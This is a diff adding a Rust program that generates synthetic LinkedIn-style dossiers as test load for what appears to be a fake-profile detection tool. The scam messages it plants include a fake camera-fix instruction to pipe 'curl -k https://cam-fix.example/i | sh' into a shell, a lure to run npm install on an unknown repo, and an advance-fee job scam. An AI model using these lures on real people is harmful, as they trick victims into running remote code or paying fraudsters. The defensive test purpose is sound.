@@ -1,0 +1,144 @@
+//! Writes a load of invented dossiers as JSON Lines, about 3 KB each, in several languages:
+//! `cargo run --release --example make_load -- 100000 > load.jsonl`.
+//!
+//! The same number gives the same bytes. One person in fifty writes something that rules look at; the others are
+//! ordinary, as most people are. Where a person comes from has no bearing on which they are.
+
+use std::error::Error;
+use std::io::{BufWriter, Write, stdout};
+
+use serde_json::{Value, json};
+
+const GIVEN: &[&str] =
+    &["Ana", "Bora", "Chidi", "Dana", "Emre", "Freya", "Goran", "Hana", "Ines", "Jun", "Kofi", "Lea"];
+const FAMILY: &[&str] =
+    &["Abara", "Brandt", "Castel", "Duarte", "Ekwall", "Fontane", "Gohara", "Holm", "Imre", "Jansky"];
+const EMPLOYERS: &[&str] =
+    &["Example Aerospace", "Northwind Foods", "Contoso Labs", "Fabrikam", "Tailspin Toys", "Litware"];
+const TITLES: &[&str] =
+    &["Software Engineer", "Talent Partner", "Data Analyst", "Product Designer", "Site Reliability Engineer"];
+const PLACES: &[&str] =
+    &["Berlin, Germany", "Toronto, ON", "서울", "São Paulo, Brazil", "Lyon, France", "Osaka, Japan"];
+
+/// Sentences of ordinary people, one list a language.
+const ORDINARY: &[&[&str]] = &[
+    &[
+        "I lead a small team that keeps the billing platform running and cut the time to deploy from days to minutes.",
+        "Thanks for connecting, I enjoyed your talk on incremental builds and would like to hear how the migration went.",
+        "The role is hybrid with two days in the office, and the whole process takes three conversations over two weeks.",
+        "We use Kubernetes for most services, though the older ones still run on plain virtual machines.",
+    ],
+    &[
+        "안녕하세요, 지난번 발표 잘 들었습니다. 다음 주에 시간이 되시면 팀 이야기를 더 나누고 싶습니다.",
+        "결제 플랫폼의 백엔드를 맡아 장애 시간을 절반으로 줄였고, 지금은 데이터 파이프라인을 개선하고 있습니다.",
+    ],
+    &[
+        "先日はお時間をいただきありがとうございました。次回の面談は来週の火曜日でよろしいでしょうか。",
+        "チームでは検索基盤の開発を担当し、応答時間の改善に取り組んできました。",
+    ],
+    &[
+        "Merci pour votre message, je serais ravie d'en savoir plus sur l'équipe et sur la manière dont vous travaillez.",
+        "J'ai conçu une chaîne de traitement des commandes qui sert aujourd'hui une douzaine de pays.",
+    ],
+    &[
+        "Gracias por escribirme, podemos hablar el jueves por la tarde si le viene bien a usted y a su equipo.",
+        "Trabajo con el equipo de datos para que los informes lleguen a tiempo y sin errores.",
+    ],
+    &[
+        "Vielen Dank für die Einladung, der Termin am Mittwoch passt mir sehr gut und ich freue mich auf das Gespräch.",
+        "Ich betreue die Schnittstellen zu unseren Lieferanten und habe die Fehlerquote deutlich gesenkt.",
+    ],
+    &[
+        "Спасибо за приглашение, мне удобно созвониться во вторник после обеда, пришлите, пожалуйста, ссылку.",
+        "Отвечаю за качество данных и автоматизировал проверку отчётов.",
+    ],
+    &[
+        "感谢您的介绍，下周二下午我有时间，可以聊聊团队目前的工作和计划。",
+        "负责支付系统的后端开发，最近在改进数据管道。",
+    ],
+];
+
+/// Sentences that rules look at.
+const STRIKING: &[&str] = &[
+    "Could we continue on Telegram? It is faster for me there and I can send you the details.",
+    "Your camera is blocked, please copy this command and paste it in Terminal: curl -k https://cam-fix.example/i | sh",
+    "Please clone the repo and run npm install, then share a screenshot within 30 minutes.",
+    "Rate hotels for 60 minutes and earn $300 per day commission, you only need to pay a refundable training fee first.",
+];
+
+/// A small generator of fixed seed (G. Marsaglia, "Xorshift RNGs", 2003).
+struct Dice(u64);
+
+impl Dice {
+    fn below(&mut self, limit: usize) -> usize {
+        self.0 ^= self.0 << 13;
+        self.0 ^= self.0 >> 7;
+        self.0 ^= self.0 << 17;
+        usize::try_from(self.0 % limit.max(1) as u64).unwrap_or(0)
+    }
+
+    fn pick<'a, T: ?Sized>(&mut self, from: &[&'a T]) -> &'a T {
+        from[self.below(from.len())]
+    }
+}
+
+fn main() -> Result<(), Box<dyn Error>> {
+    let count: usize = match std::env::args().nth(1) {
+        Some(count) => count.parse().map_err(|error| format!("{count:?} is no number of dossiers: {error}"))?,
+        None => return Err("say how many dossiers: make_load 100000".into()),
+    };
+    let mut out = BufWriter::new(stdout().lock());
+    let mut dice = Dice(0x9E37_79B9_7F4A_7C15);
+    for number in 0..count {
+        serde_json::to_writer(&mut out, &dossier(number, &mut dice))?;
+        out.write_all(b"\n")?;
+    }
+    Ok(out.flush()?)
+}
+
+fn dossier(number: usize, dice: &mut Dice) -> Value {
+    let (given, family) = (dice.pick(GIVEN), dice.pick(FAMILY));
+    let (title, employer) = (dice.pick(TITLES), dice.pick(EMPLOYERS));
+    let striking = dice.below(50) == 0;
+    let thread = format!("t{number}");
+    json!({
+        "schema": "falseface.dossier/1",
+        "id": format!("load-{number:07}"),
+        "role": dice.pick(&["candidate", "recruiter", "counterparty"]),
+        "subject": {
+            "names": [{ "value": format!("{given} {family}"), "kind": "display" }],
+            "headline": format!("{title} at {employer}"),
+            "about": sentences(dice, 2),
+            "location": { "text": dice.pick(PLACES) },
+        },
+        "accounts": [{ "network": "linkedin", "handle": format!("{given}-{family}-{number}").to_lowercase(),
+            "created_at": format!("20{:02}-0{}", 10 + dice.below(15), 1 + dice.below(9)), "connections": 40 + dice.below(460) }],
+        "employment": (0..3).map(|job| json!({
+            "employer": { "name": dice.pick(EMPLOYERS), "domain": format!("{}.example", dice.pick(&["northwind", "contoso", "fabrikam"])) },
+            "title": dice.pick(TITLES),
+            "start": format!("{}-0{}", 2023 - 4 * job, 1 + dice.below(9)),
+            "end": format!("{}-0{}", 2026 - 4 * job, 1 + dice.below(9)),
+            "description": sentences(dice, 1),
+        })).collect::<Vec<_>>(),
+        "education": [{ "school": { "name": "Example University" }, "degree": "BSc", "start": "2006", "end": "2010" }],
+        "skills": ["SQL", "Python", "Rust", "Communication"],
+        "contacts": [
+            { "kind": "email", "value": format!("{given}.{family}{}@mail.example", dice.below(90)).to_lowercase() },
+            { "kind": "phone", "value": format!("+1 202 555 01{:02}", dice.below(100)) },
+        ],
+        "messages": (0..6).map(|turn| json!({
+            "id": format!("m{turn}"),
+            "thread": thread,
+            "at": format!("2026-09-{:02}T08:{:02}:00Z", 10 + turn, dice.below(60)),
+            "from_subject": turn % 2 == 0,
+            "channel": "linkedin",
+            "text": if striking && turn == 2 { dice.pick(STRIKING).to_owned() } else { sentences(dice, 2) },
+        })).collect::<Vec<_>>(),
+        "coverage": { "present": ["employment", "education", "skills", "contacts", "messages"] },
+    })
+}
+
+fn sentences(dice: &mut Dice, count: usize) -> String {
+    let language = dice.pick(ORDINARY);
+    (0..count).map(|_| dice.pick(language)).collect::<Vec<_>>().join(" ")
+}
